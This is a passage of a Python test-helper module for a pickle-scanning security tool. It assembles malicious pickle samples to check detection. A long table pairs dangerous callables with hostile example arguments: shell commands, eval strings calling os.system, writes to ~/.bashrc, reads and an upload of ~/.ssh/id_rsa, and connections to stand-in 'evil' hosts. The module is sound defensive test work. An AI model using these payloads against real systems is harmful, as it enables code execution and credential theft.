"""Malicious and legitimate pickle samples, built here from opcodes or real libraries.

Nothing in this module ever loads a sample: malicious ones are hand-assembled bytes or
`pickle.dumps` of objects whose `__reduce__` names a dangerous callable (dumps never calls it).
"""

from __future__ import annotations

import base64
import gzip
import io
import os
import pickle
import struct
import subprocess
import zlib
from collections.abc import Callable, Iterator
from typing import Any

# ---- scanning through the real engine


def scan(data: bytes, **kw: Any) -> tuple[Any, Any]:
    """(ScanResult, PickleStreamInfo) of `data` scanned by the pickle engine."""
    from modelaudit.engine.dispatch import make_context
    from modelaudit.findings import ScanResult
    from modelaudit.scanners.pickle import scan_pickle_bytes

    result = ScanResult(scanner_name="pickle")
    info = scan_pickle_bytes(
        data,
        result,
        location=lambda pos: f"sample (pos {pos})",
        ctx=make_context("sample", {}),
        **kw,
    )
    return result, info


class Unseekable(io.RawIOBase):
    """A source that cannot seek and has no size to ask, as a zip member read through its
    decoder is: wrap it in `io.BufferedReader`."""

    def __init__(self, data: bytes) -> None:
        self._f = io.BytesIO(data)

    def readable(self) -> bool:
        return True

    def readinto(self, b: Any) -> int:
        return self._f.readinto(b)


def critical(result: Any) -> list[str]:
    return [i.message for i in result.issues if i.severity.value == "critical"]


def warnings_of(result: Any) -> list[str]:
    return [i.message for i in result.issues if i.severity.value == "warning"]


# ---- opcode helpers


class Op(bytes):
    """Opcode bytes (as opposed to a bytes constant) when passed as a call argument."""


def s(text: str) -> Op:
    """SHORT_BINUNICODE / BINUNICODE of `text`."""
    raw = text.encode()
    if len(raw) < 256:
        return Op(b"\x8c" + bytes([len(raw)]) + raw)
    return Op(b"X" + struct.pack("<I", len(raw)) + raw)


def g0(module: str, name: str) -> Op:
    """GLOBAL (the protocol-0 form, also used by protocols 1-3)."""
    return Op(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def sg(module: str, name: str) -> Op:
    """STACK_GLOBAL fed by two short strings (protocol 4+)."""
    return Op(s(module) + s(name) + b"\x93")


def args(*values: Any) -> bytes:
    out = b"("
    for v in values:
        if isinstance(v, Op):
            out += v
        elif isinstance(v, str):
            out += s(v)
        elif isinstance(v, int):
            out += b"J" + struct.pack("<i", v)
        elif isinstance(v, bytes):
            out += (
                b"C" + bytes([len(v)]) + v if len(v) < 256 else b"B" + struct.pack("<I", len(v)) + v
            )
        else:
            raise TypeError(type(v))
    return out + b"t"


def call(func: bytes, *values: Any) -> Op:
    return Op(func + args(*values) + b"R")


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def p0(body: bytes) -> bytes:
    return body + b"."


def frame(body: bytes, declared: int | None = None) -> bytes:
    n = len(body) if declared is None else declared
    return b"\x95" + struct.pack("<Q", n) + body


# ---- dangerous callables by family: (module, name, example args)

DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
    "process": [
        ("os", "system", ("id",)),
        ("posix", "system", ("id",)),
        ("nt", "system", ("whoami",)),
        ("os", "popen", ("id",)),
        ("os", "execv", ("/bin/sh",)),
        ("os", "posix_spawn", ("/bin/sh",)),
        ("subprocess", "Popen", ("id",)),
        ("subprocess", "call", ("id",)),
        ("subprocess", "check_output", ("id",)),
        ("subprocess", "run", ("id",)),
        ("subprocess", "getoutput", ("id",)),
        ("_posixsubprocess", "fork_exec", ("x",)),
        ("pty", "spawn", ("/bin/sh",)),
        ("multiprocessing.util", "spawnv_passfds", ("/bin/sh",)),
        ("multiprocessing.popen_spawn_posix", "Popen", ("x",)),
        ("asyncio.subprocess", "create_subprocess_shell", ("id",)),
        ("platform", "_syscmd_file", ("/bin/sh",)),
        ("uuid", "_get_command_stdout", ("id",)),
        ("imaplib", "IMAP4_stream", ("id",)),
        ("_osx_support", "_read_output", ("id",)),
        ("_aix_support", "_read_cmd_output", ("id",)),
        ("_pyrepl.pager", "pipe_pager", ("x", "id")),
        ("test.support.script_helper", "assert_python_ok", ("-c", "1")),
        ("torch.utils.collect_env", "run", ("id",)),
        ("fastcore.parallel", "Process", ()),
        ("trl.scripts.vllm_serve", "Process", ()),
        ("fastai.launch", "main", ("all", "/home/u/.cache/x.py")),
        ("transformers.commands.serving", "ServeCommand", ("args",)),
        ("diffusers.commands.env", "EnvironmentCommand.run", ()),
        ("sklearn", "show_versions", ()),
        ("multiprocess.pool", "Pool", (4,)),
        ("datasets.arrow_dataset", "Pool", (4,)),
        ("joblib.pool", "MemmappingPool", (4,)),
        ("joblib.externals.loky.process_executor", "ProcessPoolExecutor", (4,)),
        ("concurrent.futures", "ProcessPoolExecutor", (4,)),
        ("torch.utils._get_clean_triton", "get_clean_triton", ("/tmp/x.py",)),
        ("torch._strobelight.cli_function_profiler", "StrobelightCLIFunctionProfiler", ()),
        ("torch.backends.xeon.run_cpu", "main", ("args",)),
        ("torch.cuda._memory_viz", "format_flamegraph", ("x",)),
        ("ray", "init", ()),
        ("joblib", "Parallel", (8,)),
        ("sklearn.utils.parallel", "Parallel", (8,)),
        ("mlflow.projects", "run", ("https://evil/project",)),
        ("accelerate", "notebook_launcher", ("f", "args", 8)),
        # a torch module re-exports torch itself: the path is torch.distributed.TCPStore
        ("torch.nn.functional", "torch.distributed.TCPStore", ("evil", 1)),
        ("torch.utils.data.dataloader", "python_multiprocessing.Process", ()),
        # re-exports of denied names found by an AST pass over trusted packages' imports
        ("torch.cuda.memory", "_C._jit_pass_lower_all_tuples", ("g",)),
        ("torch", "_initExtension", ("/tmp/evil_shm_manager",)),
        ("torch._utils_internal", "StrobelightCompileTimeProfiler", ()),
        ("transformers.integrations.integration_utils", "run_hp_search_ray", ("t", 10, "max")),
        ("transformers.cli", "main", ()),
        # fastcore's parallel (a ProcessPoolExecutor map) re-exported by fastai
        ("fastai.torch_core", "parallel", ("f", "items", 8)),
        ("fastcore.basics", "startproc", ("f",)),
        ("fastai.text.core", "parallel_tokenize", ("items",)),
    ],
    "code-exec": [
        ("builtins", "eval", ("1+1",)),
        ("mako.template", "Template", ("<%! import os %>",)),
        ("PIL.ImageMath", "unsafe_eval", ("1+1",)),
        ("PIL.ImageMath", "lambda_eval", ("f",)),
        ("builtins", "exec", ("import os",)),
        ("builtins", "compile", ("1", "f", "eval")),
        ("builtins", "__import__", ("os",)),
        ("builtins", "breakpoint", ()),
        ("runpy", "run_path", ("/tmp/x.py",)),
        ("runpy", "_run_code", ("1", "g")),
        ("timeit", "timeit", ("import os",)),
        ("cProfile", "run", ("import os",)),
        ("profile", "run", ("import os",)),
        ("trace", "Trace", ()),
        ("bdb", "Bdb", ()),
        ("pdb", "run", ("import os",)),
        ("doctest", "debug_script", ("import os",)),
        ("pydoc", "pipepager", ("x", "id")),
        ("code", "InteractiveInterpreter", ()),
        ("code", "interact", ()),
        ("idlelib.pyshell", "ModifiedInterpreter", ()),
        ("lib2to3.pgen2.grammar", "Grammar", ()),
        ("ensurepip", "bootstrap", ()),
        ("numpy.f2py.crackfortran", "myeval", ("1",)),
        ("numpy.testing._private.utils", "runstring", ("import os", "g")),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", ("import os",)),
        ("torch.fx.graph_module", "_forward_from_src", ("x", "g")),
        ("pandas", "eval", ("1",)),
        ("pandas", "DataFrame.query", ("x",)),
        # trusted packages' test runners: pytest with the pickle's arguments
        ("numpy", "test", ("fast", 1)),
        ("scipy.sparse", "test", ("full",)),
        ("numpy._pytesttester", "PytestTester", ("numpy",)),
        ("pytest", "main", ("-p", "evil")),
        ("sklearn._build_utils.tempita", "process_tempita", ("/tmp/x.pyx.tp",)),
        ("torch", "_TorchCompileInductorWrapper", ("max-autotune",)),
        ("torch", "_TorchCompileAOTInductorWrapper", ("max-autotune", "o", False)),
        ("torch._guards", "Source.get_value", ("g", "l", "c")),
        # denied classes re-exported by trusted modules under their own names
        ("torch.utils.jit.log_extract", "Timer", ("__import__('os').system('id')",)),
        ("scipy.sparse", "PytestTester", ("scipy",)),
        ("numpy.random", "PytestTester", ("numpy",)),
        ("torch.utils.data", "IterDataPipe", ()),
        ("torch._higher_order_ops.wrap", "GraphModule", ("root", "graph")),
        ("torch.ao.ns.fx.n_shadows_utils", "Graph", ()),
        ("torch.nativert.backends._lower_utils", "ExportedProgram", ()),
        ("torch", "cond", ("p", "t", "f", "o")),
        ("fastai.imports.core", "set_trace", ()),
        ("transformers.agents", "LocalPythonInterpreter", ("os",)),
        ("transformers.agents.python_interpreter", "evaluate_python_code", ("import os",)),
        ("smolagents", "LocalPythonExecutor", ("os",)),
        ("numpy.ma.testutils", "assert_raises", ("x",)),
        ("sklearn.utils.estimator_checks", "create_memmap_backed_data", ("x",)),
        ("fastcore.py2pyi", "imp_mod", ("/home/u/.cache/huggingface/hub/x/evil.py",)),
        ("unittest", "main", ("evilmod",)),
        ("unittest.mock", "patch", ("builtins.open",)),
        ("pandas", "test", ("-p evil",)),
        ("scipy._lib.decorator", "FunctionMaker.create", ("f(x)", "return x", "g")),
        ("decorator", "FunctionMaker.create", ("f(x)", "return x", "g")),
        ("torch.nn.modules.linear", "torch.hub.load", ("evil/repo", "m")),
        ("transformers.testing_utils", "execute_subprocess_async", ("id",)),
        ("torch._subclasses.fake_tensor", "Source.get_value", ("g", "l", "c")),
        ("torch._subclasses.fake_tensor", "ShapeEnv.evaluate_guards_expression", ("x", "a")),
        ("torch._lazy.extract_compiled_graph", "fx.symbolic_trace", ("m",)),
        ("torch.nn.parallel.replicate", "ScriptModule.define", ("def f(x): return x",)),
        ("scipy.stats._stats_py", "_make_tuple_bunch", ("T", "a")),
        ("torch.utils._sympy.functions", "S", ("__import__('os').system('id')",)),
        # `name` is put in a def line and exec'd
        (
            "scipy.optimize._nonlin",
            "_nonlin_wrapper",
            ("f(*a):pass\nimport os\ndef g", Op(sg("scipy.optimize._nonlin", "BroydenFirst"))),
        ),
        ("scipy.stats._distn_infrastructure", "rv_generic._attach_argparser_methods", ("d",)),
        # sympify is eval of a string; formula front ends evaluate their terms as Python
        ("sympy", "simplify", ("__import__('os').system('id')",)),
        ("statsmodels.api", "test", ()),
        ("sympy", "S", ("__import__('os').system('id')",)),
        ("sympy.utilities.lambdify", "lambdify", ("x", "__import__('os').system('id')")),
        ("statsmodels.formula.api", "ols", ("y ~ __import__('os').system('id')", "d")),
        ("statsmodels.regression.linear_model", "OLS.from_formula", ("y ~ x", "d")),
        ("patsy", "dmatrices", ("y ~ __import__('os').system('id')", "d")),
    ],
    "resolver": [
        ("importlib", "import_module", ("os",)),
        ("pkgutil", "resolve_name", ("os:system",)),
        ("pydoc", "locate", ("os.system",)),
        ("inspect", "getattr_static", ("x", "y")),
        ("operator", "attrgetter", ("system",)),
        ("operator", "methodcaller", ("system", "id")),
        ("operator", "itemgetter", ("eval",)),
        ("_operator", "attrgetter", ("system",)),
        ("torch._utils", "_import_dotted_name", ("os.system",)),
        ("builtins", "vars", ()),
        ("builtins", "globals", ()),
        ("builtins", "setattr", ("x", "y", "z")),
        ("copyreg", "add_extension", ("os", "system", 1)),
        ("numpy.lib", "add_newdoc", ("evilmod", "x", "doc")),
        ("numpy._core.function_base", "add_newdoc", ("evilmod", "x", "doc")),
        ("sklearn.utils._set_output", "check_library_installed", ("evilmod",)),
        ("torch", "set_default_tensor_type", ("evilmod.T",)),
        ("sklearn.feature_selection._base", "attrgetter", ("os.system",)),
        ("sklearn.utils.discovery", "itemgetter", ("eval",)),
        ("fastai.gen_doc.doctest", "str2func", ("os.system",)),
        ("pyarrow", "_module_is_available", ("evilmod",)),
        ("importlib_metadata", "entry_points", ()),
        ("scipy._lib.array_api_compat._internal", "clone_module", ("os", "g")),
        ("scipy._lib.deprecation", "_sub_module_deprecation", ()),
        ("torch.utils._pytree", "treespec_loads", ('{"type": "evilmod.X"}',)),
        ("torch._native", "get_user_ordering_fn", ("evilmod",)),
        ("scipy.sparse.csr", "_sub_module_deprecation", ()),
        ("scipy._lib.array_api_compat.numpy", "clone_module", ("os", "g")),
        ("pandas", "set_option", ("plotting.backend", "evilmod")),
        ("pandas._config.config", "set_option", ("plotting.backend", "evilmod")),
        ("pandas.plotting._core", "_get_plot_backend", ("evilmod",)),
        ("pandas.core.frame", "DataFrame.plot", ("df",)),
        # getattr by a dotted path: nested_attr(fastai.torch_core, "os.system")
        ("fastai.torch_core", "nested_attr", (Op(sg("fastai", "torch_core")), "os.system")),
        ("fastcore.basics", "getattrs", ("m", "os")),
        ("fastai.layers", "nested_callable", ("m", "os.system")),
        # `getattr(transformers, "pipeline")` by another name
        ("transformers.models.auto.tokenization_auto", "tokenizer_class_from_name", ("pipeline",)),
    ],
    "logging-config": [
        ("logging.config", "dictConfig", ("x",)),
        ("logging.config", "listen", (9999,)),
        ("logging", "FileHandler", ("/tmp/x",)),
        ("logging.handlers", "SocketHandler", ("evil", 1)),
    ],
    "typing-eval": [
        ("typing", "ForwardRef", ("__import__('os').system('id')",)),
        ("typing", "_eval_type", ("x", "g", "l")),
        ("typing", "get_type_hints", ("x",)),
        ("torch._jit_internal", "ForwardRef", ("__import__('os').system('id')",)),
    ],
    "native": [
        ("ctypes", "CDLL", ("libc.so.6",)),
        ("ctypes", "cdll.LoadLibrary", ("libc.so.6",)),
        ("_ctypes", "dlopen", ("libc.so.6",)),
        ("ctypes.util", "find_library", ("c",)),
        ("torch.ops", "load_library", ("/tmp/x.so",)),
        ("torch", "_preload_cuda_lib", ("x", "/home/*/.cache/huggingface/hub/*/*/*/x.so")),
        ("torch.cuda.memory", "CUDAPluggableAllocator", ("/tmp/x.so", "a", "b")),
        ("torch.xpu", "XPUPluggableAllocator", ("/tmp/x.so", "a", "b")),
        ("torch.cuda.jiterator", "_create_jit_fn", ("template <typename T> T f(T x) {}",)),
        ("_cffi_backend", "FFI", ()),
        ("numpy.random._examples.cffi.extending", "FFI", ()),
        # the ctypes library objects xgboost and lightgbm keep: C called with pickle arguments
        ("xgboost.core", "_LIB.XGBoosterSaveModel", (1, b"/home/u/.bashrc")),
        ("lightgbm.basic", "_LIB.LGBM_BoosterSaveModel", (1, 0, -1, 0, b"/home/u/.bashrc")),
        ("xgboost.libpath", "find_lib_path", ()),
        ("torch.cuda._utils", "_get_cuda_library", ()),
        # raw addresses: storages built on a pointer, Arrow's C data interface writing at one
        ("torch", "UntypedStorage._new_with_weak_ptr", (140000000,)),
        ("torch.storage", "UntypedStorage._free_weak_ref", (140000000,)),
        ("torch", "UntypedStorage._set_cdata", (140000000,)),
        ("torch._subclasses.fake_tensor", "StorageWeakRef.from_weakref", (140000000,)),
        ("pyarrow", "Array._export_to_c", (140000000,)),
        ("pyarrow", "foreign_buffer", (140000000, 4096)),
        ("pyarrow.cffi", "ffi.cast", ("void(*)()", 140000000)),
        ("kernels", "get_kernel", ("attacker/kernel",)),
        ("transformers.integrations.hub_kernels", "get_kernel", ("attacker/kernel",)),
    ],
    "code-object": [
        ("marshal", "loads", (b"\xe3",)),
        ("types", "FunctionType", ("x", "g")),
        ("types", "CodeType", (1,)),
        ("cloudpickle.cloudpickle", "_make_function", ("x",)),
        ("dill._dill", "_create_code", (1,)),
        ("dill._dill", "_create_function", ("x",)),
        # cloudpickle vendored by other packages
        ("srsly.cloudpickle.cloudpickle", "_builtin_type", ("CodeType",)),
        ("joblib.externals.cloudpickle.cloudpickle", "_make_function", ("x",)),
        ("ray.cloudpickle", "_builtin_type", ("CodeType",)),
    ],
    "nested-unpickler": [
        ("pickle", "loads", (b"cos\nsystem\n.",)),
        ("_pickle", "loads", (b"x",)),
        ("dill", "loads", (b"x",)),
        ("joblib", "load", ("/tmp/x",)),
        ("torch", "load", ("/tmp/x",)),
        ("numpy", "load", ("/tmp/x",)),
        ("pandas", "read_pickle", ("/tmp/x",)),
        ("pandas.io.pickle", "read_pickle", ("/tmp/x",)),
        ("shelve", "open", ("/tmp/x",)),
        ("yaml", "unsafe_load", ("!!python/object/apply:os.system [id]",)),
        ("timm.models", "resume_checkpoint", ("m", "/tmp/x", 0, 0, 0, 0)),
        ("optuna.storages", "JournalStorage", ("backend",)),
        ("fastai.huggingface", "from_pretrained_fastai", ("attacker/repo",)),
        ("torch.utils.show_pickle", "DumpUnpickler", ("file",)),
        ("pandas.compat.pickle_compat", "Unpickler", ("file",)),
        ("optuna.storages", "RedisStorage", ("redis://evil:6379",)),
        ("optuna.storages._journal.redis", "JournalRedisStorage", ("redis://evil:6379",)),
        ("optuna.storages.journal._redis", "JournalRedisBackend", ("redis://evil:6379",)),
        ("torch.utils.model_dump", "get_model_info", ("/tmp/x.pt",)),
        ("networkx", "read_gpickle", ("/tmp/x.gpickle",)),
        ("optuna.samplers._cmaes", "CmaEsSampler._restore_optimizer", ("trials",)),
        ("joblib", "MemorizedResult", ("/home/u/cache", "f", "id")),
        ("torch._prims.debug_prims", "ContentStoreReader", ("/tmp/store",)),
        ("torch.utils.data.dataloader", "_IterDataPipeSerializationWrapper", ("dp",)),
        ("torch._utils", "_augment_memory_snapshot_stack_traces", ("/tmp/x.pickle",)),
        # WeightsEnum.get_state_dict(obj) is load_state_dict_from_url(obj.url), weights_only=False
        ("torchvision.models._api", "WeightsEnum.get_state_dict", ("w", True)),
        ("torchvision.models.resnet", "ResNet50_Weights.get_state_dict", ("w", True)),
        ("timm.models", "create_model", ("hf-hub:attacker/repo",)),
        ("timm", "create_model", ("hf-hub:attacker/repo",)),
        # checkpoint conversion scripts torch.load/tf-load the paths they are given
        (
            "transformers.models.bert.convert_bert_original_tf_checkpoint_to_pytorch",
            "convert_tf_checkpoint_to_pytorch",
            ("/tmp/ckpt", "/tmp/cfg.json", "/home/u/out"),
        ),
        ("diffusers.pipelines.stable_diffusion.convert_from_ckpt", "x", ("/tmp/x.ckpt",)),
        # a timm arch string is fetched from the Hub
        ("fastai.vision.learner", "vision_learner", ("dls", "hf-hub:attacker/repo")),
        ("fastai.text.learner", "language_model_learner", ("dls", "arch")),
    ],
    "import-system": [
        ("zipimport", "zipimporter", ("/tmp/x.zip",)),
        ("site", "addpackage", ("/tmp", "x.pth", "y")),
        ("sys", "settrace", ("x",)),
        ("atexit", "register", ("x",)),
        ("torch", "_register_device_module", ("evil", "x")),
        # operator registries: a callable put behind an aten operator runs in every model
        ("torch._meta_registrations", "Library", ("aten", "IMPL", "CPU")),
        ("torch._decomp", "Library", ("aten", "IMPL")),
        ("torch._meta_registrations", "_meta_lib_dont_use_me_use_register_meta.impl", ("mm",)),
        ("torch.nn.modules.linear", "torch.library.Library", ("aten", "IMPL")),
        ("torch._custom_ops", "custom_op", ("evil::op",)),
        ("torch", "_TritonLibrary.registerOp", ("k", "evil(Tensor x) -> Tensor", "f", "CPU")),
        ("torch.backends.mps", "_Library", ("aten", "IMPL")),
        ("torch._weights_only_unpickler", "_add_safe_globals", ("globals",)),
        ("torch._decomp", "OpOverload.py_impl", ("CPU",)),
        ("torch.utils._pytree", "register_pytree_node", ("cls", "f", "g")),
        ("torch.nn.modules.module", "register_module_forward_hook", ("hook",)),
        ("pandas.api.extensions", "register_extension_dtype", ("cls",)),
        ("numpy", "seterrcall", ("f",)),
        ("scipy.fft", "set_global_backend", ("backend",)),
        ("codecs", "register", ("f",)),
        ("fastcore.basics", "patch_to", ("cls",)),
        ("fastai.torch_core", "patch", ("f",)),
        ("logging", "setLogRecordFactory", ("f",)),
    ],
    "subinterpreter": [
        ("_xxsubinterpreters", "run_string", (1, "import os")),
        ("_interpreters", "exec", (1, "import os")),
        ("_thread", "start_new_thread", ("x", "y")),
        ("fastcore.basics", "startthread", ("f",)),
        ("sklearn.callback._transport", "Thread", ("g", "f")),
        ("concurrent.futures", "ThreadPoolExecutor", (4,)),
        ("optuna.study.study", "Study.optimize", ("objective", 10)),
    ],
    "torch-gadget": [
        ("torch.jit", "load", ("/tmp/x",)),
        ("torch.hub", "load", ("evil/repo", "m")),
        ("torch.package", "PackageImporter", ("/tmp/x",)),
        ("torch.utils.cpp_extension", "load_inline", ("x", "y")),
        ("torch._inductor.codecache", "PyCodeCache", ()),
        ("torch.serialization", "load", ("/tmp/x",)),
        ("torch._C", "_load_for_lite_interpreter", ("/tmp/x",)),
    ],
    "file": [
        ("shutil", "rmtree", ("/tmp/x",)),
        ("tensorflow.io", "write_file", ("/home/u/.bashrc", "x")),
        ("tensorflow.io.gfile", "GFile", ("/home/u/.bashrc", "w")),
        ("tensorflow.compat.v1.gfile", "Remove", ("/home/u/.bashrc",)),
        ("h5py", "File", ("/home/u/.bashrc", "w")),
        ("matplotlib.pyplot", "savefig", ("/home/u/.bashrc",)),
        ("shutil", "copyfile", ("/etc/passwd", "/tmp/x")),
        ("_io", "FileIO", ("/tmp/x", "w")),
        ("io", "open", ("/tmp/x", "w")),
        ("builtins", "open", ("/tmp/x", "w")),
        ("tempfile", "NamedTemporaryFile", ()),
        ("numpy", "fromfile", ("/etc/passwd",)),
        ("numpy", "save", ("/tmp/x", 1)),
        ("pathlib", "Path.write_text", ("x",)),
        ("scipy.special._precompute.expn_asy", "main", ()),
        # trusted packages' classes that open a path for writing when built or called
        ("joblib.logger", "PrintTime", ("/home/u/.bashrc",)),
        ("joblib.compressor", "BinaryZlibFile", ("/tmp/x", "wb")),
        ("joblib.disk", "rm_subdirs", ("/home/u",)),
        ("joblib._memmapping_reducer", "ArrayMemmapForwardReducer", (0, "x", "w+", False)),
        ("torch.profiler", "ExecutionTraceObserver", ()),
        ("torch.cuda.gds", "GdsFile", ("/home/u/.bashrc", 578)),
        ("pyarrow", "OSFile", ("/tmp/x", "w")),
        ("pyarrow.lib", "MemoryMappedFile", ("/tmp/x",)),
        ("pyarrow.ipc", "RecordBatchFileWriter", ("/tmp/x", "schema")),
        ("pyarrow.parquet", "ParquetWriter", ("/tmp/x", "schema")),
        ("torch.utils.file_baton", "FileBaton", ("/home/u/.bashrc",)),
        ("torch._logging._internal", "LazyTraceHandler", ("/home/u",)),
        ("joblib._store_backends", "FileSystemStoreBackend.clear_location", ("/home/u",)),
        # trusted packages this machine does not install, from their published sources
        ("fastcore.xtras", "delete", ("/home/u",)),
        ("fastcore.foundation", "Config", ("/usr/lib/python3/dist-packages", "x.pth", 1)),
        ("optuna.storages", "JournalFileStorage", ("/home/u/.bashrc",)),
        ("datasets.fingerprint", "_TempCacheDir", ()),
        ("timm.utils.checkpoint_saver", "CheckpointSaver", ("m", "o", "/home/u")),
        ("datasets.filesystems", "LocalFileSystem.rm", ("/home/u", True)),
        ("lightgbm.basic", "NamedTemporaryFile", ("w", -1, "utf-8", "", ".pth", "/home/u", 0)),
        ("timm.models._hub", "TemporaryDirectory", ()),
        ("torch.utils.hipify.hipify_python", "hipify", ("/home/u/project",)),
        ("torch.nn.functional", "torch.utils.hipify.hipify_python.hipify", ("/home/u/p",)),
        ("pandas", "show_versions", ("/home/u/.bashrc",)),
        ("py_compile", "compile", ("/tmp/x.py", "/home/u/.local/lib/x.pyc")),
        ("compileall", "compile_dir", ("/home/u",)),
        ("zipapp", "create_archive", ("/tmp/x", "/home/u/.bashrc")),
        ("linecache", "getline", ("/home/u/.ssh/id_rsa", 1)),
        ("torchvision.datasets.utils", "_extract_tar", ("/tmp/x.tar", "/home/u")),
        ("pandas", "DataFrame.to_string", ("/home/u/.bashrc",)),
        ("torch.cuda.tunable", "write_file", ("/home/u/.bashrc",)),
        ("pandas.core.frame", "get_handle", ("/home/u/.bashrc", "w")),
        ("joblib", "PrintTime", ("/home/u/.bashrc",)),
        ("sklearn.model_selection._validation", "logger.PrintTime", ("/home/u/.bashrc",)),
        ("pandas.core.generic", "HDFStore", ("/home/u/.bashrc", "w")),
        ("torch.utils._zip", "ZipFile", ("/home/u/.bashrc", "w")),
        ("scipy.odr._odrpack", "ODR.run", ("odr",)),
        ("catboost.datasets", "_cached_dataset_load", ("http://evil/x.tgz", "..", "a", "b")),
        ("catboost.datasets", "_extract", ("/tmp/x.tgz", "/home/u")),
        ("catboost", "train", ("pool", "params")),
        ("catboost.core", "CatBoost.fit", ("x",)),
        ("catboost.utils", "create_cd", ("label", "cat", "/home/u/.bashrc")),
        ("fastai.text.core", "tokenize_folder", ("/tmp/x", "/home/u")),
        ("fastai.vision.utils", "resize_images", ("/tmp/x", "/home/u")),
        ("accelerate.utils", "offload_state_dict", ("/home/u", "sd")),
        ("fastcore.shutil", "copy", ("/tmp/x", "/home/u/.bashrc")),
        ("fastai.data.external", "FastDownload", ("cfg", "/home/u")),
        ("joblib.memory", "MemorizedFunc", ("f", "/home/u")),
    ],
    "network": [
        ("socket", "socket", ()),
        ("socket", "create_connection", ("evil", 80)),
        ("ssl", "create_default_context", ()),
        ("urllib.request", "urlopen", ("http://evil/",)),
        ("http.client", "HTTPConnection", ("evil",)),
        ("webbrowser", "open", ("http://evil/",)),
        ("git", "Repo.clone_from", ("https://evil/x", "/tmp/x")),
        ("docker", "from_env", ()),
        ("wandb", "init", ("x",)),
        ("s3fs", "S3FileSystem", ()),
        ("tqdm.contrib.telegram", "tqdm", ("x",)),
        ("keras.src.utils.file_utils", "get_file", ("x", "https://evil/x")),
        ("keras.utils", "get_file", ("x", "https://evil/x")),
        ("antigravity", "geohash", ("37.4", "0.5", b"2005-05-26-10458.68")),
        ("requests", "get", ("http://evil/",)),
        ("smtplib", "SMTP", ("evil",)),
        ("ftplib", "FTP", ("evil",)),
        ("pyarrow.flight", "FlightClient", ("grpc://evil:1",)),
        ("optuna.storages", "RDBStorage", ("postgresql://evil/db",)),
        ("optuna.storages", "GrpcStorageProxy", ("evil", 1)),
        ("xgboost.tracker", "RabitTracker", ("0.0.0.0", 2)),
        ("optuna.storages._cached_storage", "RDBStorage", ("postgresql://evil/db",)),
        ("optuna.cli", "RDBStorage", ("postgresql://evil/db",)),
        # `import torch.distributed as dist` in a trusted module
        ("torch.nn.modules._functions", "dist.TCPStore", ("evil", 1)),
        ("torch.nn.modules._functions", "dist.init_process_group", ("gloo",)),
        # optuna's study functions open the storage the URL names
        ("optuna", "create_study", ("x", "postgresql://evil/db")),
        ("optuna", "load_study", ("x", "postgresql://evil/db")),
        ("optuna.study", "copy_study", ("x", "postgresql://evil/db", "sqlite:////home/u/x")),
        ("optuna", "delete_study", ("x", "postgresql://evil/db")),
        ("optuna", "get_all_study_names", ("postgresql://evil/db",)),
        ("optuna.storages", "get_storage", ("postgresql://evil/db",)),
        ("optuna.artifacts", "upload_artifact", ("s", "/home/u/.ssh/id_rsa", "store")),
        ("xgboost.collective", "init", ()),
        ("xgboost.callback", "collective.init", ()),
        ("xgboost", "RabitTracker", ("0.0.0.0", 2)),
        ("fastdownload", "FastDownload", ()),
        ("distributed", "Client", ("tcp://evil:8786",)),
        ("sklearn.callback._transport", "Listener", ("0.0.0.0:4444",)),
        ("sklearn.callback._transport", "Connection", (0,)),
        ("torch.nn.parallel.distributed", "RRef", ("x",)),
        ("joblib._dask", "get_client", ()),
        ("pyarrow.flight", "connect", ("grpc://evil:1",)),
        ("pyarrow.fs", "HadoopFileSystem", ("evil", 8020)),
        ("pyarrow.fs", "FileSystem.from_uri", ("s3://evil/x",)),
        ("statsmodels.api", "webdoc", ("http://evil/",)),
        ("statsmodels.datasets", "get_rdataset", ("x",)),
        ("timm.data", "create_dataset", ("torch/mnist", "/home/u")),
        ("datasets.utils.file_utils", "cached_path", ("http://evil/x",)),
        ("scipy.datasets", "face", ()),
        ("transformers.utils.hub", "has_file", ("attacker/repo", "x")),
        ("transformers.safetensors_conversion", "auto_conversion", ("attacker/repo",)),
        ("transformers.keras_callbacks", "PushToHubCallback", ("/home/u/out",)),
    ],
    "package-install": [
        ("pip", "main", ("install", "evil")),
        ("pip._internal.cli.main", "main", ("install", "evil")),
        ("setuptools.sandbox", "run_setup", ("setup.py", "x")),
    ],
}


class _Reduce:
    """An object whose pickle calls `func(*args)` on load; dumps never calls it."""

    def __init__(self, func: Callable[..., Any], *a: Any) -> None:
        self.func = func
        self.a = a

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.a)


def _family_samples() -> Iterator[tuple[str, bytes]]:
    for family, entries in DANGEROUS.items():
        for module, name, a in entries:
            yield f"{family}:{module}.{name}:p4", p4(call(sg(module, name), *a))
            yield f"{family}:{module}.{name}:p0", p0(call(g0(module, name), *a))


def _reduce_samples() -> Iterator[tuple[str, bytes]]:
    import builtins
    import runpy
    import shutil
    import socket
    import timeit

    reducers = [
        (os.system, ("touch /tmp/x",)),
        (os.popen, ("id",)),
        (subprocess.Popen, (["id"],)),
        (subprocess.check_output, (["id"],)),
        (builtins.eval, ("1",)),
        (builtins.exec, ("1",)),
        (builtins.getattr, (os.system, "__call__")),
        (runpy.run_path, ("/tmp/x",)),
        (shutil.rmtree, ("/tmp/x",)),
        (socket.create_connection, (("evil", 1),)),
        (timeit.timeit, ("1",)),
        (pickle.loads, (b"x",)),
    ]
    for func, a in reducers:
        for proto in (0, 2, 4, 5):
            yield (
                f"reduce:{func.__module__}.{func.__qualname__}:proto{proto}",  # type: ignore[attr-defined]
                pickle.dumps(_Reduce(func, *a), protocol=proto),  # type: ignore[arg-type]
            )


def _code_library_samples() -> Iterator[tuple[str, bytes]]:
    """Functions serialised by value with the real dill and cloudpickle: code ships in the file."""
    import cloudpickle
    import dill

    def payload() -> int:
        return os.system("id")

    for proto in (2, 4):
        yield f"library:dill-lambda:p{proto}", dill.dumps(lambda x: x + 1, protocol=proto)
        yield f"library:dill-function:p{proto}", dill.dumps(payload, protocol=proto)
        yield (
            f"library:cloudpickle-lambda:p{proto}",
            cloudpickle.dumps(lambda x: x + 1, protocol=proto),
        )
        yield f"library:cloudpickle-function:p{proto}", cloudpickle.dumps(payload, protocol=proto)


def _trick_samples() -> Iterator[tuple[str, bytes]]:
    osys = sg("os", "system")
    # memo indirection: the global is stored, popped and fetched back before the call
